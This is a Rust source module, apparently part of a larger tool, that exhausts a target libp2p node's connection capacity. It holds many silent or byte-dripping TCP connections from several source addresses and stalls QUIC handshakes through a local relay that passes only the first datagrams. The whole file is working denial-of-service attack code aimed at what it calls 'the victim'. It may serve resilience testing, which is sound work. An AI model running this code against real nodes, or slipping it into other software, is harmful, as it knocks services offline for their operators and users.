//! Connections that are begun and never finished, over TCP and QUIC.

use std::net::{IpAddr, SocketAddr, UdpSocket as StdSocket};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use tokio::io::AsyncWriteExt;
use tokio::net::UdpSocket;
use tokio::task::JoinSet;

use super::hand::{Hand, Tally};
use super::peer::{Place, bare};

/// Pause before a connection that was refused is tried again.
const AGAIN: Duration = Duration::from_millis(20);
/// Datagrams of a client that reach the victim: the first, and the one that answers the retry.
const LET_THROUGH: usize = 2;

/// How many, and how.
#[derive(Debug, Clone, Copy)]
pub struct Shape {
    /// Connections from each of our addresses.
    pub per_source: usize,
    /// One byte a second instead of none.
    pub drip: bool,
    /// QUIC handshakes from each of our addresses.
    pub quic: usize,
    /// How long.
    pub lasts: Duration,
}

/// Holds unfinished connections as long as the victim lets us, and makes new ones where it does not.
///
/// # Errors
/// The victim is not reached over TCP addresses.
pub async fn hold(hand: &Hand, shape: Shape) -> Result<Tally> {
    let Place::Tcp(to) = hand.first()? else {
        bail!("unfinished connections need an IP address")
    };
    let end = Instant::now() + shape.lasts;
    let sources: Vec<Option<IpAddr>> = if hand.from.is_empty() {
        vec![None]
    } else {
        hand.from.iter().copied().map(Some).collect()
    };
    let mut all = JoinSet::new();
    for source in sources {
        for _ in 0..shape.per_source {
            all.spawn(async move { silent(to, source, shape.drip, end).await });
        }
        for _ in 0..shape.quic {
            all.spawn(async move { half_open(to, source, end).await.unwrap_or_default() });
        }
    }
    let mut tally = Tally::default();
    while let Some(one) = all.join_next().await {
        tally.join(&one.unwrap_or_default());
    }
    Ok(tally)
}

/// TCP connections, one after the other, that say nothing or one byte a second.
async fn silent(to: SocketAddr, source: Option<IpAddr>, drip: bool, end: Instant) -> Tally {
    let mut tally = Tally::default();
    while Instant::now() < end {
        let Ok(mut stream) = bare(to, source).await else {
            tally.add("tcp-refused");
            tokio::time::sleep(AGAIN).await;
            continue;
        };
        tally.add("tcp");
        // A well formed beginning, a byte at a time, never to its end.
        for byte in b"\x13/multistream/1.0.0\n\x07/noise\n".iter().cycle() {
            if drip && stream.write_all(&[*byte]).await.is_err() {
                break;
            }
            let gone = tokio::time::timeout(Duration::from_secs(1), closed(&stream))
                .await
                .is_ok();
            if gone || Instant::now() >= end {
                break;
            }
        }
    }
    tally
}

/// Waits until the other side has closed the connection.
async fn closed(stream: &tokio::net::TcpStream) {
    let mut bytes = [0; 512];
    loop {
        if stream.readable().await.is_err() {
            return;
        }
        match stream.try_read(&mut bytes) {
            Ok(0) => return,
            Ok(_) => {}
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(_) => return,
        }
    }
}

/// QUIC handshakes that stop after the client's address is proven: a real client behind a relay that lets only its first
/// datagrams through.
async fn half_open(to: SocketAddr, source: Option<IpAddr>, end: Instant) -> Result<Tally> {
    let mut tally = Tally::default();
    let any: IpAddr = if to.is_ipv4() {
        [0, 0, 0, 0].into()
    } else {
        [0_u16; 8].into()
    };
    while Instant::now() < end {
        let outside = UdpSocket::bind(SocketAddr::new(source.unwrap_or(any), 0)).await?;
        outside.connect(to).await?;
        let inside = Arc::new(UdpSocket::bind("127.0.0.1:0").await?);
        let client = client()?;
        let relayed = async {
            let (mut sent, mut there, mut back, mut peer) = (0, [0; 2048], [0; 2048], None);
            loop {
                tokio::select! {
                    Ok((size, from)) = inside.recv_from(&mut there) => {
                        peer = Some(from);
                        sent += 1;
                        if sent <= LET_THROUGH {
                            let _ = outside.send(there.get(..size).unwrap_or_default()).await;
                        }
                    }
                    Ok(size) = outside.recv(&mut back) => {
                        // Only the retry comes back: with the handshake the client would go on.
                        if let Some(peer) = peer.filter(|_| sent < LET_THROUGH) {
                            let _ = inside.send_to(back.get(..size).unwrap_or_default(), peer).await;
                        }
                    }
                    else => return,
                }
            }
        };
        let wait = Duration::from_secs(6).min(end.saturating_duration_since(Instant::now()));
        let connecting = client
            .connect(inside.local_addr()?, "l")
            .context("begin a QUIC handshake")?;
        tokio::select! {
            () = relayed => {}
            _ = connecting => {}
            () = tokio::time::sleep(wait) => {}
        }
        tally.add("quic");
    }
    Ok(tally)
}

/// A QUIC client on loopback that trusts nobody: its handshakes never get so far.
fn client() -> Result<quinn::Endpoint> {
    let key = libp2p::identity::Keypair::generate_ed25519();
    let tls = libp2p_tls::make_client_config(&key, None)?;
    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from(tls)?;
    let socket = StdSocket::bind("127.0.0.1:0")?;
    let mut endpoint = quinn::Endpoint::new(
        quinn::EndpointConfig::default(),
        None,
        socket,
        Arc::new(quinn::TokioRuntime),
    )?;
    endpoint.set_default_client_config(quinn::ClientConfig::new(Arc::new(crypto)));
    Ok(endpoint)
}
